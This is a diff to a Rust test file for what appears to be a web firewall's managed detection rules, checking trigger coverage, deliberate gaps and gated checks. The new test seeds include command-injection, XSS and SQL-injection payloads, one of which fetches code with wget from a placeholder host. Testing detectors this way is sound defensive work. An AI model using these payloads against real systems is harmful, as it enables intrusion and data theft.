@@ -1,6 +1,7 @@
 //! Tests of the managed rules: ids, trigger boundaries and coverage, candidates, plain numbers.
 
 use super::*;
+use crate::rules::{self, Detect, Gate};
 
 #[test]
 fn builtins_compile_with_unique_ids_and_triggers() {
@@ -9,20 +10,21 @@ fn builtins_compile_with_unique_ids_and_triggers() {
     let n = ids.len();
     ids.dedup();
     assert_eq!(ids.len(), n, "duplicate managed rule ids");
-    for s in &e.sigs {
-        assert!(!s.triggers.is_empty(), "signature {} has no trigger", s.id);
+    assert_eq!(e.sigs.len(), regex_rules().count());
+    for (r, triggers, _) in regex_rules() {
+        assert!(!triggers.is_empty(), "signature {} has no trigger", r.id);
     }
 }
 
 #[test]
 fn trigger_boundaries_sit_on_word_edges() {
-    for s in signatures::all() {
-        for t in s.triggers {
+    for (r, triggers, _) in regex_rules() {
+        for t in triggers {
             let (lit, left, right) = parse_trigger(t);
-            assert!(!lit.is_empty() && !lit.contains(r"\b"), "{}: {t}", s.id);
+            assert!(!lit.is_empty() && !lit.contains(r"\b"), "{}: {t}", r.id);
             let b = lit.as_bytes();
-            assert!(!left || word_byte(b[0]), "{}: {t}", s.id);
-            assert!(!right || word_byte(b[b.len() - 1]), "{}: {t}", s.id);
+            assert!(!left || word_byte(b[0]), "{}: {t}", r.id);
+            assert!(!right || word_byte(b[b.len() - 1]), "{}: {t}", r.id);
         }
     }
     assert_eq!(parse_trigger(r"\bor\b"), ("or", true, true));
@@ -158,56 +160,90 @@ fn narrowed_triggers_still_cover_their_regexes() {
     assert!(!c.contains(&2014) && !c.contains(&4001), "{c:?}");
 }
 
+/// Whether every string `hir` matches holds one of `triggers` (lower case), as far as its
+/// structure shows: a literal that holds one; a group or repetition (at least once) of a
+/// covered part; an alternation of covered branches; a concatenation with a covered part, or
+/// whose parts from some point on (up to some point) start (end) with literals that each hold
+/// a trigger, by regex-syntax's literal extractor. `false` means "not shown", not "uncovered".
+fn covered(hir: &regex_syntax::hir::Hir, triggers: &[Vec<u8>]) -> bool {
+    use regex_syntax::hir::literal::{ExtractKind, Extractor};
+    use regex_syntax::hir::{Hir, HirKind};
+    let holds = |lit: &[u8]| {
+        let lit = lit.to_ascii_lowercase();
+        triggers
+            .iter()
+            .any(|t| lit.windows(t.len()).any(|w| w == t.as_slice()))
+    };
+    let literals_hold = |kind: ExtractKind, h: &Hir| {
+        let mut ex = Extractor::new();
+        ex.kind(kind).limit_total(4000).limit_class(30);
+        ex.extract(h)
+            .literals()
+            .is_some_and(|lits| !lits.is_empty() && lits.iter().all(|l| holds(l.as_bytes())))
+    };
+    if literals_hold(ExtractKind::Prefix, hir) || literals_hold(ExtractKind::Suffix, hir) {
+        return true;
+    }
+    match hir.kind() {
+        HirKind::Literal(l) => holds(&l.0),
+        HirKind::Capture(c) => covered(&c.sub, triggers),
+        HirKind::Repetition(r) => r.min >= 1 && covered(&r.sub, triggers),
+        HirKind::Alternation(subs) => subs.iter().all(|h| covered(h, triggers)),
+        HirKind::Concat(subs) => {
+            subs.iter().any(|h| covered(h, triggers))
+                || (0..subs.len()).any(|i| {
+                    literals_hold(ExtractKind::Prefix, &Hir::concat(subs[i..].to_vec()))
+                        || literals_hold(ExtractKind::Suffix, &Hir::concat(subs[..=i].to_vec()))
+                })
+        }
+        _ => false,
+    }
+}
+
 /// Every branch of a signature's regex needs one of the signature's triggers: a branch
-/// without one never runs, and what it matches passes (about thirty did; see the cases of
-/// `narrowed_triggers_still_cover_their_regexes`).
-/// regex-syntax's literal extractor gives literals that every match starts with (or ends
-/// with); when either set is finite and each of its literals holds a trigger, the triggers
-/// cover the regex. Where the literals are too short to tell (the trigger lies further in),
-/// the signature was checked by hand and is listed here. One gap is kept on purpose: 3015
-/// does not trigger on `alert (`, `confirm (`, `window .`, which are prose.
+/// without one never runs, and what it matches passes. Shown from the regex's structure
+/// ([`covered`]); the regex is parsed case-sensitively and its literals compared in lower case,
+/// which is how the triggers match.
+///
+/// A few gaps are kept on purpose, each with a value the regex matches that holds no trigger
+/// (asserted): they are spellings browsers and shells do not act on, or prose.
 #[test]
 fn every_regex_branch_has_a_trigger() {
-    use regex_syntax::hir::literal::{ExtractKind, Extractor};
-    const CHECKED_BY_HAND: &[u32] = &[
-        1100, 1101, 1202, 2011, 2012, 2013, 2014, 2015, 2016, 2017, 2018, 2019, 2020, 3010, 3011,
-        3012, 3015, 3016, 3017, 4000, 4001, 4002, 4100, 4101, 4102, 5001, 5004, 5100, 6001, 6101,
-        6200, 7000, 7002, 7101, 8001, 8100, 8200,
+    const DELIBERATE: &[(u32, &str)] = &[
+        // `< script>` is text to an HTML parser, not a tag.
+        (3010, "< script>"),
+        // A blank before the scheme's colon is not a URL scheme.
+        (3011, "javascript :alert(1)"),
+        // Prose in a form: "confirm (required)".
+        (3015, "confirm (1)"),
+        // Bash imports a function only from a value starting with `() {`.
+        (5100, "( ) { :; }"),
     ];
+    let e = Engine::new().expect("compile");
+    let mut set = e.candidates();
+    for &(id, v) in DELIBERATE {
+        let i = e.sigs.iter().position(|s| s.id == id).expect("signature");
+        assert!(e.regexes[i].is_match(Input::new(v)), "{id} regex: {v}");
+        let marked = e.mark(v.as_bytes(), &mut set) && set.iter().any(|k| k == i);
+        assert!(!marked, "{id} triggers on {v}: no longer a gap");
+    }
     let mut uncovered = Vec::new();
-    for s in signatures::all() {
-        if CHECKED_BY_HAND.contains(&s.id) {
+    for (r, triggers, pattern) in regex_rules() {
+        if DELIBERATE.iter().any(|&(id, _)| id == r.id) {
             continue;
         }
         let hir = regex_syntax::ParserBuilder::new()
-            .case_insensitive(true)
             .unicode(false)
             .utf8(false)
             .build()
-            .parse(s.pattern)
+            .parse(pattern)
             .expect("the engine compiles it");
-        let triggers: Vec<Vec<u8>> = s
-            .triggers
+        let triggers: Vec<Vec<u8>> = triggers
             .iter()
             .map(|t| parse_trigger(t).0.to_ascii_lowercase().into_bytes())
             .collect();
-        let holds_trigger = |lit: &[u8]| {
-            let lit = lit.to_ascii_lowercase();
-            triggers
-                .iter()
-                .any(|t| lit.windows(t.len()).any(|w| w == t.as_slice()))
-        };
-        let covered = [ExtractKind::Prefix, ExtractKind::Suffix]
-            .into_iter()
-            .any(|kind| {
-                let mut ex = Extractor::new();
-                ex.kind(kind).limit_total(2000).limit_class(30);
-                ex.extract(&hir)
-                    .literals()
-                    .is_some_and(|lits| lits.iter().all(|l| holds_trigger(l.as_bytes())))
-            });
-        if !covered {
-            uncovered.push(s.id);
+        if !covered(&hir, &triggers) {
+            uncovered.push(r.id);
         }
     }
     assert!(
@@ -249,8 +285,8 @@ fn plain_numbers_are_numbers_only() {
 #[test]
 fn no_rule_fires_on_a_plain_number() {
     let mut numbers: Vec<String> = Vec::new();
-    for s in signatures::all() {
-        for t in s.triggers {
+    for (_, triggers, _) in regex_rules() {
+        for t in triggers {
             let (lit, _, _) = parse_trigger(t);
             // Every completion of the literal into a number by a head and a tail (a sign,
             // digits, a point, an exponent); those short enough to be skipped get scanned.
@@ -313,4 +349,82 @@ fn no_rule_fires_on_a_plain_number() {
             assert!(hit.is_none(), "{n} at {loc:?}: {hit:?}");
         }
     }
+}
+
+/// The `needs` and `gate` of each check only skip values it would not fire on: with every byte
+/// of its needed classes taken out, no check fires on attack-shaped values (the regex rules'
+/// triggers and patterns, and random mixes of their bytes), at any location; and a check behind
+/// the SQLi gate never fires on a value the gate refuses.
+#[test]
+fn checks_fire_only_on_values_with_their_needs() {
+    let mut seeds: Vec<String> = Vec::new();
+    for (_, triggers, pattern) in regex_rules() {
+        seeds.push(pattern.to_string());
+        seeds.push(triggers.join(" "));
+        seeds.extend(triggers.iter().map(|t| format!("1{}x", parse_trigger(t).0)));
+    }
+    seeds.extend(
+        [
+            "1; cat /etc/passwd",
+            "a|id",
+            "x && wget http://e/x",
+            "`id`",
+            "$(id)",
+            "<img src=x onerror=alert(1)>",
+            "\"><svg/onload=alert(1)>",
+            "javascript:alert(1)",
+            "1' or '1'='1",
+            "1 union select 1,2--",
+            "admin'--",
+            "1 and 1=1",
+        ]
+        .map(String::from),
+    );
+    let bytes: Vec<u8> = seeds.iter().flat_map(|s| s.bytes()).collect();
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    for _ in 0..3000 {
+        let len = 2 + (x % 40) as usize;
+        let v: Vec<u8> = (0..len)
+            .map(|_| {
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                bytes[(x % bytes.len() as u64) as usize]
+            })
+            .collect();
+        seeds.push(String::from_utf8_lossy(&v).into_owned());
+    }
+    let locations = [
+        Location::QueryArg,
+        Location::BodyArg,
+        Location::Cookie,
+        Location::Header,
+        Location::Path,
+        Location::Body,
+    ];
+    let mut tried = 0;
+    for r in rules::all() {
+        let Detect::Check { test, needs, gate } = r.detect else {
+            continue;
+        };
+        for seed in &seeds {
+            for &loc in &locations {
+                if gate == Gate::Sqli && !sqli_gate(seed, loc) {
+                    assert!(!test(seed, loc), "{}: gate refuses {seed:?}", r.id);
+                }
+            }
+            if needs == 0 {
+                continue;
+            }
+            let v: String = seed
+                .chars()
+                .filter(|c| !c.is_ascii() || class::shape(&[*c as u8]) & needs == 0)
+                .collect();
+            for &loc in &locations {
+                tried += 1;
+                assert!(!test(&v, loc), "{} fires on {v:?} without its needs", r.id);
+            }
+        }
+    }
+    assert!(tried > 10_000, "{tried}");
 }
